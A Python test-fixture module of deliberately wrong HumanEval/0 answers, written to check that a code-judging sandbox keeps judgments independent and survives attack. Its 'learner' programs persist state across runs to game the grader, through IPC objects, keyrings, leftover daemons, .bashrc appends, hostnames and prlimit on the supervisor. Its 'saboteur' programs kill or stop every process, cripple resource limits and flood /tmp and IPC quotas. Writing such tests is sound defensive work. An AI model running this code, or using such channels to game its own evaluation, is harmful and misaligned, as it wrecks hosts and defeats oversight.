r"""Programs for issue 27: every judgment independent of every other.

Written for this project's tests (none comes from a dataset). Every program is a wrong
answer to HumanEval/0 (``has_close_elements``) and is placed under the task's prompt,
as a model that echoes the prompt writes it (except where ``with_prompt`` is False).

Classes (``klass``):

- ``learner``: wrong programs that try to remember across judgments. Each keeps one
  small integer of state in a channel (a kernel object, a file, a process, a resource
  limit of another process) and uses it with the judge's "stop at the first failing
  assert" rule: calls it answered in the last judgment were all accepted but the last
  one, so every judgment learns at least one answer. With state that persists, the
  learner passes HumanEval/0 within :data:`LEARN_WITHIN` judgments
  (``test_independence.py`` checks that on the host with an in-memory channel); with
  no state it fails every time at the same assert. A call ``has_close_elements([],
  -1.0)`` (never made by the hidden test) returns whether the channel works *inside*
  one judgment (the positive control), ``([], -2.0)`` names the working channels.
- ``saboteur``: wrong programs that try to damage what judges later programs (the
  zygote's / the supervisor's / the judge's limits, processes, IPC objects, ``/tmp``,
  file descriptors, ptrace); the correct program that follows must pass.
- ``errored``: wrong programs that try to be scored ``error`` (or to raise a
  ``SandboxError``) instead of ``fail``.

Plus :data:`BOMBS` and :data:`VACUOUS`: self-tests (asserts evaluated in the judge)
that compute without bound, or cannot fail.
"""

from __future__ import annotations

from dataclasses import dataclass

TASK = "HumanEval/0"
ENTRY = "has_close_elements"

#: A learner with a persisting channel passes HumanEval/0 (7 asserts) within this many
#: judgments (4 in fact: see test_learners_would_pass_if_state_persisted).
LEARN_WITHIN = 8


@dataclass(frozen=True)
class Judged:
    """One wrong program of issue 27's held-out style."""

    name: str
    klass: str  # learner | saboteur | errored
    threat: str
    program: str
    task: str = TASK
    #: Placed under the task's prompt (False: the program stands alone).
    with_prompt: bool = True
    #: Learners: the channels it stores its state in.
    channels: tuple[str, ...] = ()


@dataclass(frozen=True)
class SelfTestCase:
    """A self-test (an assert evaluated in the judge) for the correct HumanEval/0."""

    name: str
    threat: str
    test: str


WRONG = "\n\ndef has_close_elements(numbers, threshold):\n    return False\n"

# =========================================================================== learners

LEARNER_HEAD = r'''
import ctypes as _ct
import os as _os
import sys as _sys
import time as _time
import zlib as _zlib

_TAG = "@TAG@"
_HASH = _zlib.crc32(_TAG.encode()) & 0xFFFF
_STORES = []


def _store(name, get, put):
    _STORES.append((name, get, put))


try:
    _libc = _ct.CDLL(None, use_errno=True)
except Exception:
    _libc = None


def _daemonize():
    """True in a detached grandchild (own session, stdio on /dev/null, no other fd),
    False in the caller once the intermediate child is gone."""
    pid = _os.fork()
    if pid:
        _os.waitpid(pid, 0)
        return False
    try:
        _os.setsid()
        if _os.fork():
            _os._exit(0)
        null = _os.open("/dev/null", _os.O_RDWR)
        for fd in (0, 1, 2):
            _os.dup2(null, fd)
        _os.closerange(3, 65536)
    except BaseException:
        _os._exit(0)
    return True
'''

#: The learning logic, the same for every channel. State: 1<<16 | n<<12 | calls<<8 | bits
#: (``n`` answers known, ``bits`` their values, ``calls`` made in the last judgment).
LEARNER_CORE = r"""

def _valid(s):
    return isinstance(s, int) and 0x10000 <= s <= 0x1FFFF


_SOURCE = "none"


def _load():
    global _SOURCE
    for name, get, _put in _STORES:
        try:
            s = get()
        except BaseException:
            s = None
        if _valid(s):
            _SOURCE = name
            return s
    return None


def _save(s):
    for _name, _get, put in _STORES:
        try:
            put(s)
        except BaseException:
            pass


def _enc(n, calls, bits):
    return 0x10000 | min(n, 15) << 12 | min(calls, 15) << 8 | (bits & 0xFF)


_s = _load()
_n, _calls, _bits = (0, 0, 0) if _s is None else ((_s >> 12) & 15, (_s >> 8) & 15, _s & 0xFF)
if _calls > _n:
    # Guessed True at positions _n.._calls-1: every guess but the last was accepted
    # (the judge called again), the last one was not (the judge stopped there).
    for _i in range(_n, _calls - 1):
        _bits |= 1 << _i
    _bits &= ~(1 << (_calls - 1))
    _n = _calls
_calls = 0
_save(_enc(_n, 0, _bits))


def _working():
    probe = _enc(9, 9, 0xA5)
    ok = []
    for name, get, put in _STORES:
        try:
            put(probe)
            if get() == probe:
                ok.append(name)
            put(_enc(0, 0, 0))  # back to "nothing learned"
        except BaseException:
            pass
    return ok


def has_close_elements(numbers, threshold):
    global _calls
    if not numbers and threshold < 0:  # the positive controls (never a hidden input)
        if threshold == -3.0:  # where this judgment's state came from
            return _SOURCE
        ok = _working()
        return bool(ok) if threshold == -1.0 else ",".join(ok) or "none"
    i = _calls
    _calls += 1
    _save(_enc(_n, _calls, _bits))
    if i < _n:
        return bool(_bits >> i & 1)
    return True
"""

#: The in-memory channel of the host-side simulation (``__rb_memory__`` is injected).
MEMORY_STORE = r"""
_store("memory", lambda: __rb_memory__.get("s"), lambda v: __rb_memory__.__setitem__("s", v))
"""

STORE_SYSV_SHM = r"""
def _shm_addr():
    _libc.shmget.restype = _ct.c_int
    _libc.shmat.restype = _ct.c_void_p
    _libc.shmat.argtypes = [_ct.c_int, _ct.c_void_p, _ct.c_int]
    _libc.shmdt.argtypes = [_ct.c_void_p]
    sid = _libc.shmget(0x52420000 | _HASH, 4096, 0o1666)  # IPC_CREAT | 0666
    if sid < 0:
        return None
    addr = _libc.shmat(sid, None, 0)
    if addr is None or addr == _ct.c_void_p(-1).value:
        return None
    return addr


def _shm_get():
    addr = _shm_addr()
    if addr is None:
        return None
    try:
        return _ct.c_int64.from_address(addr).value
    finally:
        _libc.shmdt(addr)


def _shm_put(v):
    addr = _shm_addr()
    if addr is not None:
        _ct.c_int64.from_address(addr).value = v
        _libc.shmdt(addr)


_store("sysv-shm", _shm_get, _shm_put)
"""

STORE_SYSV_SEM = r"""
def _sem_id():
    return _libc.semget(0x52430000 | _HASH, 2, 0o1666)


def _sem_get():
    sid = _sem_id()
    if sid < 0:
        return None
    lo, hi = _libc.semctl(sid, 0, 12), _libc.semctl(sid, 1, 12)  # GETVAL
    if lo < 0 or hi < 0:
        return None
    return lo | hi << 15


def _sem_put(v):
    sid = _sem_id()
    if sid < 0:
        return
    # Counters: SETVAL, then semop to count the calls (SEMVMX is 32767).
    _libc.semctl(sid, 0, 16, _ct.c_int(v & 0x7FFF))  # SETVAL
    _libc.semctl(sid, 1, 16, _ct.c_int(0))

    class _SemBuf(_ct.Structure):
        _fields_ = [("num", _ct.c_ushort), ("op", _ct.c_short), ("flg", _ct.c_short)]

    op = _SemBuf(1, v >> 15, 0)
    _libc.semop(sid, _ct.byref(op), _ct.c_size_t(1))


_store("sysv-sem", _sem_get, _sem_put)
"""

STORE_SYSV_MSG = r"""
class _MsgBuf(_ct.Structure):
    _fields_ = [("mtype", _ct.c_long), ("mtext", _ct.c_char * 32)]


def _msg_drain(qid):
    _libc.msgrcv.restype = _ct.c_ssize_t
    last = None
    for _ in range(64):
        m = _MsgBuf()
        r = _libc.msgrcv(qid, _ct.byref(m), _ct.c_size_t(32), _ct.c_long(0), 0o4000)
        if r < 0:
            break
        last = int(m.mtext[:r].decode())
    return last


def _msg_send(qid, v):
    data = str(v).encode()
    m = _MsgBuf(1, data)
    _libc.msgsnd(qid, _ct.byref(m), _ct.c_size_t(len(data)), 0o4000)  # IPC_NOWAIT


def _msg_get():
    qid = _libc.msgget(0x52440000 | _HASH, 0o1666)
    if qid < 0:
        return None
    v = _msg_drain(qid)
    if v is not None:
        _msg_send(qid, v)
    return v


def _msg_put(v):
    qid = _libc.msgget(0x52440000 | _HASH, 0o1666)
    if qid >= 0:
        _msg_drain(qid)
        _msg_send(qid, v)


_store("sysv-msg", _msg_get, _msg_put)
"""

STORE_POSIX_MQ = r"""
import ctypes.util as _ctu


class _MqAttr(_ct.Structure):
    _fields_ = [("flags", _ct.c_long), ("maxmsg", _ct.c_long), ("msgsize", _ct.c_long),
                ("curmsgs", _ct.c_long), ("pad", _ct.c_long * 4)]


def _mq_lib():
    if _libc is not None and hasattr(_libc, "mq_open"):
        return _libc
    return _ct.CDLL(_ctu.find_library("rt") or "librt.so.1", use_errno=True)


def _mq_open():
    lib = _mq_lib()
    lib.mq_receive.restype = _ct.c_ssize_t
    attr = _MqAttr(0, 4, 32, 0)
    name = ("/rb-learn-" + _TAG).encode()
    q = lib.mq_open(name, 2 | 0o100 | 0o4000, _ct.c_int(0o666), _ct.byref(attr))
    return lib, q


def _mq_drain(lib, q):
    last = None
    for _ in range(16):
        buf = _ct.create_string_buffer(64)
        r = lib.mq_receive(q, buf, _ct.c_size_t(64), None)
        if r < 0:
            break
        last = int(buf.raw[:r].decode())
    return last


def _mq_send(lib, q, v):
    data = str(v).encode()
    lib.mq_send(q, data, _ct.c_size_t(len(data)), _ct.c_uint(0))


def _mq_get():
    lib, q = _mq_open()
    if q < 0:
        return None
    try:
        v = _mq_drain(lib, q)
        if v is not None:
            _mq_send(lib, q, v)
        return v
    finally:
        lib.mq_close(q)


def _mq_put(v):
    lib, q = _mq_open()
    if q >= 0:
        _mq_drain(lib, q)
        _mq_send(lib, q, v)
        lib.mq_close(q)


_store("posix-mq", _mq_get, _mq_put)
"""

#: The state in the *name* of a POSIX message queue, made and listed through the
#: mqueue file system (no library call at all).
STORE_MQUEUE_FS = r"""
_MQDIR = "/dev/mqueue"
_MQPFX = "rb-learn-" + _TAG + "-"


def _mqfs_names():
    return [n for n in _os.listdir(_MQDIR) if n.startswith(_MQPFX)]


def _mqfs_get():
    vals = [int(n[len(_MQPFX):]) for n in _mqfs_names()]
    return max(vals) if vals else None


def _mqfs_put(v):
    for n in _mqfs_names():
        try:
            _os.unlink(_os.path.join(_MQDIR, n))
        except OSError:
            pass
    _os.close(_os.open(_os.path.join(_MQDIR, _MQPFX + str(v)), _os.O_CREAT | _os.O_RDWR, 0o666))


_store("mqueue-fs", _mqfs_get, _mqfs_put)
"""

FILE_STORE = r"""
def _file_store(name, paths):
    def get():
        for p in paths:
            try:
                with open(p) as fh:
                    return int(fh.read().strip())
            except (OSError, ValueError):
                pass
        return None

    def put(v):
        for p in paths:
            try:
                _os.makedirs(_os.path.dirname(p) or ".", exist_ok=True)
                with open(p, "w") as fh:
                    fh.write(str(v))
            except OSError:
                pass

    _store(name, get, put)
"""

STORE_DEV_SHM = (
    FILE_STORE
    + r"""
_file_store("dev-shm", ["/dev/shm/.rb-learn-" + _TAG, "/dev/shm/sem.rb-learn-" + _TAG])
"""
)

STORE_TMP_DEEP = (
    FILE_STORE
    + r"""
_file_store(
    "tmp-deep",
    ["/tmp/.rb-learn/" + _TAG + "/" + "d/" * 60 + "state", "/tmp/.rb-learn-" + _TAG,
     "/var/tmp/.rb-learn-" + _TAG],
)
"""
)

STORE_HOME = (
    FILE_STORE
    + r"""
_homes = [_os.path.expanduser("~"), _os.environ.get("HOME") or "/root", "/root", "/home"]
_file_store(
    "home-files",
    [_os.path.join(h, sub + _TAG) for h in _homes
     for sub in (".rb-learn-", ".config/rb-learn/", ".cache/rb-learn/", ".local/rb-")],
)


def _env_get():
    v = _os.environ.get("RB_LEARN_" + str(_HASH))
    return int(v) if v else None


def _env_put(v):
    for h in _homes:
        for rc in (".profile", ".bashrc", ".pam_environment"):
            try:
                with open(_os.path.join(h, rc), "a") as fh:
                    fh.write("\nexport RB_LEARN_%d=%d\n" % (_HASH, v))
            except OSError:
                pass


_store("home-env", _env_get, _env_put)
"""
)

STORE_SCRATCH = (
    FILE_STORE
    + r"""
_here = _os.path.dirname(_os.path.abspath(_sys.argv[0] or "."))
_file_store(
    "scratch",
    [_os.path.join(d, ".rb-learn-" + _TAG) for d in (".", "..", _here, _os.path.dirname(_here))],
)
"""
)

STORE_KEYRINGS = r"""
import platform as _platform

_ADD_KEY, _KEYCTL = {"aarch64": (217, 219)}.get(_platform.machine(), (248, 250))


def _keyctl(*args):
    return _libc.syscall(_ct.c_long(_KEYCTL), *[
        _ct.c_long(a) if isinstance(a, int) else a for a in args])


def _key_store(name, ring):
    desc = ("rb-learn-" + _TAG).encode()

    def get():
        kid = _keyctl(10, ring(), b"user", desc, 0)  # KEYCTL_SEARCH
        if kid < 0:
            return None
        buf = _ct.create_string_buffer(64)
        n = _keyctl(11, kid, buf, 64)  # KEYCTL_READ
        return int(buf.raw[:n].decode()) if n > 0 else None

    def put(v):
        data = str(v).encode()
        _libc.syscall(_ct.c_long(_ADD_KEY), b"user", desc, data, _ct.c_long(len(data)),
                      _ct.c_long(ring()))

    _store(name, get, put)
"""

STORE_KEY_USER = (
    STORE_KEYRINGS
    + r"""
_key_store("keyring-user", lambda: -4)  # KEY_SPEC_USER_KEYRING
"""
)

STORE_KEY_SESSION = (
    STORE_KEYRINGS
    + r"""
_key_store("keyring-session", lambda: -3)  # KEY_SPEC_SESSION_KEYRING
_key_store("keyring-user-session", lambda: -5)  # KEY_SPEC_USER_SESSION_KEYRING
"""
)

STORE_KEY_PERSISTENT = (
    STORE_KEYRINGS
    + r"""
# KEYCTL_GET_PERSISTENT: the uid's persistent keyring (outlives every session), linked
# into this process's keyring.
_key_store("keyring-persistent", lambda: _keyctl(22, -1, -2))
"""
)

STORE_ABSTRACT_SOCKET = r"""
import socket as _socket

_ADDR = "\0rb-learn-" + _TAG


def _ask(msg):
    s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    try:
        s.settimeout(0.5)
        s.connect(_ADDR)
        s.sendall(msg)
        return s.recv(64)
    finally:
        s.close()


def _serve():
    if not _daemonize():
        return
    try:
        srv = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        srv.bind(_ADDR)
        srv.listen(16)
        srv.settimeout(1.0)
        val, end = b"0", _time.time() + 600
        while _time.time() < end:
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            try:
                data = conn.recv(64)
                if data.startswith(b"P"):
                    val = data[1:]
                conn.sendall(val)
            except OSError:
                pass
            conn.close()
    finally:
        _os._exit(0)


def _sock_get():
    try:
        return int(_ask(b"G")) or None
    except (OSError, ValueError):
        return None


def _sock_put(v):
    try:
        _ask(b"P%d" % v)
        return
    except OSError:
        pass
    _serve()
    for _ in range(50):
        try:
            _ask(b"P%d" % v)
            return
        except OSError:
            _time.sleep(0.01)


_store("abstract-socket-daemon", _sock_get, _sock_put)
"""

#: A leftover process that keeps the state in its command line.
STORE_DAEMON = r"""
_MARK = "rb-learn-" + _TAG


def _daemons():
    out = []
    for pid in _os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as fh:
                args = fh.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        if _MARK in args:
            i = args.index(_MARK)
            try:
                out.append((int(pid), int(args[i + 1])))
            except (IndexError, ValueError):
                pass
    return out


def _daemon_get():
    found = _daemons()
    return found[-1][1] if found else None


def _daemon_put(v):
    for pid, _ in _daemons():
        try:
            _os.kill(pid, 9)
        except OSError:
            pass
    if _daemonize():
        try:
            _os.execv(_sys.executable, [_sys.executable, "-c",
                      "import time\nwhile True: time.sleep(60)", _MARK, str(v)])
        finally:
            _os._exit(0)
    for _ in range(100):
        if any(val == v for _, val in _daemons()):
            return
        _time.sleep(0.005)


_store("leftover-daemon", _daemon_get, _daemon_put)
"""

RLIMIT_STORE = r"""
import resource as _res

#: Linux's RLIMIT_* numbers (Python's resource module has no RLIMIT_LOCKS).
_RLIM = {"RLIMIT_CPU": 0, "RLIMIT_FSIZE": 1, "RLIMIT_DATA": 2, "RLIMIT_STACK": 3,
         "RLIMIT_CORE": 4, "RLIMIT_RSS": 5, "RLIMIT_NPROC": 6, "RLIMIT_NOFILE": 7,
         "RLIMIT_MEMLOCK": 8, "RLIMIT_AS": 9, "RLIMIT_LOCKS": 10, "RLIMIT_SIGPENDING": 11,
         "RLIMIT_MSGQUEUE": 12, "RLIMIT_NICE": 13, "RLIMIT_RTPRIO": 14, "RLIMIT_RTTIME": 15}


def _rl_targets(kind):
    if kind == "ppid":
        return [_os.getppid()]
    if kind == "pid1":
        return [1]
    if kind == "ancestors":
        out, pid = [], _os.getppid()
        while pid > 0 and pid not in out:
            out.append(pid)
            try:
                with open("/proc/%d/stat" % pid) as fh:
                    pid = int(fh.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                break
        return out
    return [int(p) for p in _os.listdir("/proc") if p.isdigit()]


def _rl_store(name, kind, fields):
    # fields: (resource, base, bits, step); the state split over them, low bits first.
    def read(pid):
        s, shift = 0, 0
        for rname, base, bits, step in fields:
            r = _RLIM[rname]
            soft, _hard = _res.getrlimit(r) if pid == 0 else _res.prlimit(pid, r)
            x, rem = divmod(soft - base, step)
            if soft == _res.RLIM_INFINITY or rem or not 0 <= x < (1 << bits):
                return None
            s |= x << shift
            shift += bits
        return s

    def get():
        # Its own limits first (inherited from whatever forked it), then the targets'.
        for pid in [0] + _rl_targets(kind):
            try:
                v = read(pid)
            except (OSError, ValueError):
                v = None
            if _valid(v):
                return v
        return None

    def put(v):
        for pid in _rl_targets(kind):
            shift = 0
            for rname, base, bits, step in fields:
                r = _RLIM[rname]
                x = (v >> shift) & ((1 << bits) - 1)
                shift += bits
                try:
                    _soft, hard = _res.prlimit(pid, r)
                    new = base + x * step
                    if hard == _res.RLIM_INFINITY or new <= hard:
                        _res.prlimit(pid, r, (new, hard))
                except (OSError, ValueError):
                    pass

    _store(name, get, put)
"""

STORE_RL_PPID = (
    RLIMIT_STORE
    + r"""
_rl_store("prlimit-ppid-msgqueue", "ppid", [("RLIMIT_MSGQUEUE", 0x40000, 17, 1)])
"""
)
STORE_RL_ANCESTORS = (
    RLIMIT_STORE
    + r"""
_rl_store("prlimit-ancestors-locks-sigpending", "ancestors",
          [("RLIMIT_LOCKS", 512, 9, 1), ("RLIMIT_SIGPENDING", 2048, 8, 1)])
"""
)
STORE_RL_PID1 = (
    RLIMIT_STORE
    + r"""
_rl_store("prlimit-pid1-rttime", "pid1", [("RLIMIT_RTTIME", 0x1000000, 17, 1)])
"""
)
STORE_RL_ALL_NOFILE = (
    RLIMIT_STORE
    + r"""
_rl_store("prlimit-all-nofile-fsize", "all",
          [("RLIMIT_NOFILE", 512, 9, 1), ("RLIMIT_FSIZE", 8 << 20, 8, 4096)])
"""
)
STORE_RL_ALL_NPROC = (
    RLIMIT_STORE
    + r"""
_rl_store("prlimit-all-nproc-as", "all",
          [("RLIMIT_NPROC", 32, 5, 1), ("RLIMIT_AS", 512 << 20, 12, 1 << 16)])
"""
)

STORE_HOSTNAME = r"""
import socket as _socket

_HPFX = "rbl%x-" % _HASH


def _host_get():
    h = _socket.gethostname()
    return int(h[len(_HPFX):]) if h.startswith(_HPFX) else None


def _host_put(v):
    _socket.sethostname(_HPFX + str(v))


_store("hostname", _host_get, _host_put)
"""

#: (name, channel store, threat)
_LEARNERS = [
    (
        "learn_sysv_shm",
        STORE_SYSV_SHM,
        "state in a SysV shared memory segment with a fixed key (shmget/shmat)",
    ),
    (
        "learn_sysv_sem",
        STORE_SYSV_SEM,
        "state in the counters of a SysV semaphore set (semctl SETVAL, semop)",
    ),
    (
        "learn_sysv_msg",
        STORE_SYSV_MSG,
        "state in a message left on a SysV message queue (msgsnd/msgrcv)",
    ),
    (
        "learn_posix_mq",
        STORE_POSIX_MQ,
        "state in a message left on a POSIX message queue (mq_open from libc/librt)",
    ),
    (
        "learn_mqueue_fs",
        STORE_MQUEUE_FS,
        "state in the name of a POSIX message queue made through /dev/mqueue",
    ),
    ("learn_dev_shm", STORE_DEV_SHM, "state in a /dev/shm file"),
    (
        "learn_tmp_deep",
        STORE_TMP_DEEP,
        "state in /tmp (a 60-deep directory), /tmp and /var/tmp files",
    ),
    (
        "learn_keyring_user",
        STORE_KEY_USER,
        "state in a key on the candidate uid's user keyring (add_key / keyctl search, read)",
    ),
    (
        "learn_keyring_session",
        STORE_KEY_SESSION,
        "state in a key on the session and user-session keyrings",
    ),
    (
        "learn_keyring_persistent",
        STORE_KEY_PERSISTENT,
        "state in a key on the uid's persistent keyring (KEYCTL_GET_PERSISTENT)",
    ),
    (
        "learn_abstract_socket",
        STORE_ABSTRACT_SOCKET,
        "state held by a forked background process behind an abstract unix socket",
    ),
    (
        "learn_leftover_daemon",
        STORE_DAEMON,
        "state in the command line of a leftover daemon process (setsid, double fork)",
    ),
    (
        "learn_home_env_files",
        STORE_HOME,
        "state in $HOME files and shell start-up files (export RB_LEARN_...)",
    ),
    (
        "learn_scratch_dir",
        STORE_SCRATCH,
        "state in the scratch working directory, its parent and the program's directory",
    ),
    (
        "learn_prlimit_ppid",
        STORE_RL_PPID,
        "state in the parent's (the zygote's) RLIMIT_MSGQUEUE via prlimit",
    ),
    (
        "learn_prlimit_ancestors",
        STORE_RL_ANCESTORS,
        "state in RLIMIT_LOCKS/RLIMIT_SIGPENDING of every ancestor (zygote, judge, supervisor)",
    ),
    (
        "learn_prlimit_pid1",
        STORE_RL_PID1,
        "state in pid 1's (the supervisor's) RLIMIT_RTTIME via prlimit",
    ),
    (
        "learn_prlimit_all_nofile_fsize",
        STORE_RL_ALL_NOFILE,
        "state in lowered RLIMIT_NOFILE + RLIMIT_FSIZE of every process it can reach",
    ),
    (
        "learn_prlimit_all_nproc_as",
        STORE_RL_ALL_NPROC,
        "state in lowered RLIMIT_NPROC + RLIMIT_AS of every process it can reach",
    ),
    ("learn_hostname", STORE_HOSTNAME, "state in the UTS namespace's host name"),
]

ALL_CHANNEL_STORES = "".join(store for _, store, _ in _LEARNERS)


def learner_program(tag: str, store: str) -> str:
    """A learner over ``store`` (its state tagged ``tag``)."""
    return LEARNER_HEAD.replace("@TAG@", tag) + store + LEARNER_CORE


def simulated_learner(tag: str = "sim") -> str:
    """The same learner over an in-memory channel that persists (host-side only)."""
    return LEARNER_HEAD.replace("@TAG@", tag) + MEMORY_STORE + LEARNER_CORE


LEARNERS: list[Judged] = [
    Judged(name, "learner", threat, learner_program(name, store), channels=(name,))
    for name, store, threat in _LEARNERS
]

#: One learner over every channel at once (the property test, `evaluate`).
EVERY_CHANNEL = Judged(
    "learn_every_channel",
    "learner",
    "state in every channel above at once (the first that survives wins)",
    learner_program("every", ALL_CHANNEL_STORES),
    channels=tuple(name for name, _, _ in _LEARNERS),
)
LEARNERS.append(EVERY_CHANNEL)

# =========================================================================== saboteurs

SAB_HEAD = r'''
import os as _os
import resource as _res

#: Linux's RLIMIT_* numbers (Python's resource module has no RLIMIT_LOCKS).
_RLIM = {"RLIMIT_CPU": 0, "RLIMIT_FSIZE": 1, "RLIMIT_DATA": 2, "RLIMIT_STACK": 3,
         "RLIMIT_CORE": 4, "RLIMIT_RSS": 5, "RLIMIT_NPROC": 6, "RLIMIT_NOFILE": 7,
         "RLIMIT_MEMLOCK": 8, "RLIMIT_AS": 9, "RLIMIT_LOCKS": 10, "RLIMIT_SIGPENDING": 11,
         "RLIMIT_MSGQUEUE": 12, "RLIMIT_NICE": 13, "RLIMIT_RTPRIO": 14, "RLIMIT_RTTIME": 15}
import signal as _sig
import sys as _sys
import time as _time


def _pids():
    me = _os.getpid()
    return [int(p) for p in _os.listdir("/proc") if p.isdigit() and int(p) != me]


def _ancestors():
    out, pid = [], _os.getppid()
    while pid > 0 and pid not in out:
        out.append(pid)
        try:
            with open("/proc/%d/stat" % pid) as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return out


_LOW = [("RLIMIT_NOFILE", 3), ("RLIMIT_NPROC", 1), ("RLIMIT_FSIZE", 0),
        ("RLIMIT_AS", 16 << 20), ("RLIMIT_DATA", 16 << 20), ("RLIMIT_STACK", 64 << 10),
        ("RLIMIT_CPU", 1), ("RLIMIT_MEMLOCK", 0), ("RLIMIT_MSGQUEUE", 0),
        ("RLIMIT_SIGPENDING", 0), ("RLIMIT_LOCKS", 0), ("RLIMIT_CORE", 0),
        ("RLIMIT_RTTIME", 1), ("RLIMIT_NICE", 0), ("RLIMIT_RTPRIO", 0)]


def _lower(pid):
    for name, v in _LOW:
        r = _RLIM[name]
        try:
            if pid == 0:
                _res.setrlimit(r, (v, v))
            else:
                _res.prlimit(pid, r, (v, v))
        except (OSError, ValueError):
            try:  # at least the soft limit
                soft, hard = _res.getrlimit(r) if pid == 0 else _res.prlimit(pid, r)
                lim = (min(v, hard), hard)
                _res.setrlimit(r, lim) if pid == 0 else _res.prlimit(pid, r, lim)
            except (OSError, ValueError):
                pass


def _daemonize(close=True):
    pid = _os.fork()
    if pid:
        _os.waitpid(pid, 0)
        return False
    try:
        _os.setsid()
        if _os.fork():
            _os._exit(0)
        if close:
            null = _os.open("/dev/null", _os.O_RDWR)
            for fd in (0, 1, 2):
                _os.dup2(null, fd)
            _os.closerange(3, 65536)
    except BaseException:
        _os._exit(0)
    return True


def _deep(root, depth, budget_s):
    """A ``depth``-deep directory chain under ``root`` (relative mkdir + chdir)."""
    here = _os.getcwd()
    end = _time.time() + budget_s
    try:
        _os.chdir(root)
        for i in range(depth):
            _os.mkdir("d")
            _os.chdir("d")
            if i % 500 == 0 and _time.time() > end:
                break
        with open("bottom", "w") as fh:
            fh.write("x" * 100)
    except OSError:
        pass
    finally:
        _os.chdir(here)
'''

SAB_CPU_BURNERS = r"""
for _k in range(4):
    if _daemonize(close=False):  # keeps the job's stdout/stderr pipes open
        try:
            for _fd in (1, 2):
                _os.write(_fd, b"still here\n")
        except OSError:
            pass
        _end = _time.time() + 120
        while _time.time() < _end:
            pass
        _os._exit(0)
"""

_SABOTEURS = [
    (
        "sab_prlimit_zygote",
        "lowers every RLIMIT of its parent (the zygote) to ~0 via prlimit",
        "_lower(_os.getppid())\n",
    ),
    (
        "sab_prlimit_ancestors",
        "lowers every RLIMIT of every ancestor (zygote, judge, supervisor)",
        "for _p in _ancestors():\n    _lower(_p)\n",
    ),
    (
        "sab_prlimit_pid1",
        "lowers every RLIMIT of pid 1 (the supervisor) via prlimit",
        "_lower(1)\n",
    ),
    (
        "sab_prlimit_every_pid",
        "lowers every RLIMIT of every process it can see",
        "for _p in _pids():\n    _lower(_p)\n",
    ),
    (
        "sab_rlimits_self_then_exit",
        "sets its own process-wide limits low (inherited by what it forks), forks a child "
        "that keeps them, then exits the process",
        "if _os.fork() == 0:\n    _lower(0)\n    _time.sleep(30)\n    _os._exit(0)\n"
        "_lower(0)\n_os._exit(0)\n",
    ),
    (
        "sab_kill_everything",
        "kill(-1, SIGKILL), then SIGKILL to every pid and its group",
        "for _p in _pids():\n    for _f in (lambda: _os.kill(_p, 9), lambda: _os.killpg(_p, 9)):\n"
        "        try:\n            _f()\n        except OSError:\n            pass\n"
        "try:\n    _os.kill(-1, 9)\nexcept OSError:\n    pass\n",
    ),
    (
        "sab_sigstop_everything",
        "SIGSTOP to every process (judge, zygote, supervisor)",
        "for _p in _pids():\n    try:\n        _os.kill(_p, _sig.SIGSTOP)\n    except OSError:\n"
        "        pass\ntry:\n    _os.kill(-1, _sig.SIGSTOP)\nexcept OSError:\n    pass\n",
    ),
    (
        "sab_deep_tmp_tree",
        "a 100000-deep directory tree in /tmp (kills a recursive wipe)",
        "_deep('/tmp', 100000, 2.5)\n",
    ),
    (
        "sab_deep_trees_everywhere",
        "30000-deep trees in /dev/shm, the scratch dir, $HOME and /var/tmp",
        "for _r in ('/dev/shm', '.', _os.path.expanduser('~'), '/var/tmp'):\n"
        "    _deep(_r, 30000, 0.6)\n",
    ),
    (
        "sab_many_files",
        "20000 files in /tmp, /dev/shm and the scratch dir, odd names, dirs left mode 000",
        "_end = _time.time() + 2.5\n"
        "for _r in ('/tmp', '/dev/shm', '.'):\n"
        "    _d = _os.path.join(_r, '.flood')\n"
        "    try:\n        _os.makedirs(_d, exist_ok=True)\n    except OSError:\n        continue\n"
        "    for _i in range(20000):\n"
        "        try:\n"
        "            open(_os.path.join(_d, 'f%d-\\n-%s' % (_i, 'x' * 200)), 'w').close()\n"
        "        except OSError:\n            break\n"
        "        if _i % 500 == 0 and _time.time() > _end:\n            break\n"
        "    _os.chmod(_d, 0)\n",
    ),
    (
        "sab_fill_tmpfs",
        "fills /tmp and /dev/shm with 15 MB files (up to 600 MB)",
        "_end = _time.time() + 2.5\n_blob = b'x' * (15 << 20)\n"
        "for _i in range(40):\n"
        "    for _r in ('/tmp', '/dev/shm'):\n"
        "        try:\n            with open('%s/.fill%d' % (_r, _i), 'wb') as _fh:\n"
        "                _fh.write(_blob)\n        except OSError:\n            pass\n"
        "    if _time.time() > _end:\n        break\n",
    ),
    (
        "sab_sysv_ipc_flood",
        "leaves SysV shm (4 x 64 MB touched), semaphores, full message queues, POSIX "
        "mqueues and keys until every quota is exhausted",
        r"""
import ctypes as _ct
_libc = _ct.CDLL(None, use_errno=True)
_libc.shmat.restype = _ct.c_void_p
_libc.shmat.argtypes = [_ct.c_int, _ct.c_void_p, _ct.c_int]
_end = _time.time() + 2.0
for _i in range(4):
    _sid = _libc.shmget(0, 64 << 20, 0o1666)
    if _sid >= 0:
        _a = _libc.shmat(_sid, None, 0)
        if _a and _a != _ct.c_void_p(-1).value:
            _ct.memset(_a, 1, 64 << 20)
for _i in range(8192):
    if _libc.shmget(0, 1 << 20, 0o1666) < 0 or _time.time() > _end:
        break
for _i in range(8192):
    if _libc.semget(0, 250, 0o1666) < 0 or _time.time() > _end:
        break
class _M(_ct.Structure):
    _fields_ = [("t", _ct.c_long), ("x", _ct.c_char * 1024)]
for _i in range(64):
    _q = _libc.msgget(0, 0o1666)
    if _q < 0:
        break
    while _libc.msgsnd(_q, _ct.byref(_M(1, b"y" * 1000)), _ct.c_size_t(1000), 0o4000) == 0:
        pass
    if _time.time() > _end:
        break
try:
    _rt = _libc if hasattr(_libc, "mq_open") else _ct.CDLL("librt.so.1")
    for _i in range(256):
        if _rt.mq_open(b"/rb-flood-%d" % _i, 2 | 0o100, _ct.c_int(0o666), None) < 0:
            break
except Exception:
    pass
for _i in range(400):
    if _libc.syscall(_ct.c_long(248), b"user", b"rb-flood-%d" % _i, b"z" * 512,
